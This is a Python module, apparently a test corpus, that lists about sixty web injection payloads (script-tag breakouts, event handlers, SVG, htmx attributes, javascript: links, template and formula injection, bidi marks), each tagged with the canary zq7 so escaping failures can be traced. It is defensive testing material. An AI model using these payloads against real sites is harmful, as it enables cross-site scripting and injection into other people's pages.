"""Sixty texts that would run, if a page ever took what somebody typed for its own.

Each calls or names `zq7`, so that what stems from them is known wherever it turns up.
"""

BREAKERS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->")
SCRIPT = "<script>zq7()</script>"
HANDLERS = (
    "<img src=x onerror=zq7()>",
    "<body onload=zq7()>",
    "<input autofocus onfocus=zq7()>",
    "<details open ontoggle=zq7()>",
    "<video><source onerror=zq7()></video>",
    "<marquee onstart=zq7()>zq7</marquee>",
    "<a href=# onclick=zq7()>zq7</a>",
    "<style onload=zq7()></style>",
)
SVG = (
    "<svg onload=zq7()>",
    "<svg><script>zq7()</script></svg>",
    "<svg><animate onbegin=zq7() attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,zq7#x"/></svg>',
    "<math><mtext><style><img src onerror=zq7()>",
)
HTMX = (
    '<b hx-get="/zq7" hx-trigger="load">zq7</b>',
    '<b data-hx-get="/zq7" data-hx-trigger="load">zq7</b>',
    '<b hx-on:load="zq7()">zq7</b>',
    '<b data-hx-on--load="zq7()">zq7</b>',
    '" data-hx-get="/zq7" data-hx-trigger="load" x="',
    '" hx-post=/zq7 hx-trigger=load x="',
    "' data-hx-vals='js:{a: zq7()}' x='",
    '<script type="text/hyperscript">on load zq7()</script>',
    '<hx-partial hx-target="body">zq7</hx-partial>',
    '<template hx-swap-oob="true" id="main">zq7</template>',
)
LINKS = (
    "javascript:zq7()",
    "JaVaScRiPt:zq7()",
    "java\tscript:zq7()",
    "\x01javascript:zq7()",
    "data:text/html,<script>zq7()</script>",
    "vbscript:zq7()",
    "javascript://example.org/%0azq7()",
    '<a href="javascript:zq7()">zq7</a>',
    '<iframe src="javascript:zq7()"></iframe>',
    '<iframe srcdoc="<script>zq7()</script>"></iframe>',
    '<form action="//zq7.example"><button>zq7</button></form>',
    '<base href="//zq7.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:zq7()">',
    '<link rel="stylesheet" href="//zq7.example/x.css">',
    '<object data="//zq7.example"></object>',
)
ATTRIBUTES = (
    '" onmouseover="zq7()" x="',
    "' onmouseover='zq7()' x='",
    " onmouseover=zq7() x=",
    '" style="background:url(//zq7.example)" x="',
    "` onerror=zq7() x=`",
)
TEMPLATES = (
    "zq7{{ 7*191 }}zq7",
    "zq7{% for a in range(3) %}zq7{% endfor %}",
    "zq7${7*191}zq7",
    "zq7#{7*191}zq7",
    "zq7%(name)s%s%n",
    "{{ config }}zq7",
)
MARKS = (
    "zq7\u202egnp.exe",
    "zq7\u2066\u2067\u200f\u061czq7",
    "<\u200bscript>zq7()</script>",
)
DATA = (
    '"}</script><script>zq7()</script>{"@type":"zq7',
    '=HYPERLINK("//zq7.example";"zq7")',
    "zq7\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nzq7",
)
PAYLOADS = (
    *(f"{breaker}{SCRIPT}" for breaker in BREAKERS[:5]),
    *HANDLERS,
    *SVG,
    *HTMX,
    *LINKS,
    *ATTRIBUTES,
    *TEMPLATES,
    *MARKS,
    *DATA,
)
